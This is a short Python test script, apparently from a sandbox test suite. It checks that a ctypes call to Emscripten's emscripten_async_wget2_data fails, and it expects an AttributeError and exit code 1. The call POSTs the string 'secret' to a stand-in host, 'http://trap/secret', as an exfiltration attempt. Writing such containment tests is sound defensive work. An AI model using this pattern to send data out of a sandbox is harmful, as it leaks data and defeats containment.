"""Load data by POST with Emscripten's C function for it.

Ends: exit code 1
Prints: loading
Prints: AttributeError: function 'emscripten_
"""

import ctypes
import time

print("loading", flush=True)
ctypes.CDLL(None).emscripten_async_wget2_data(
    b"http://trap/secret", b"POST", b"secret", None, 0, None, None, None
)
time.sleep(0.05)
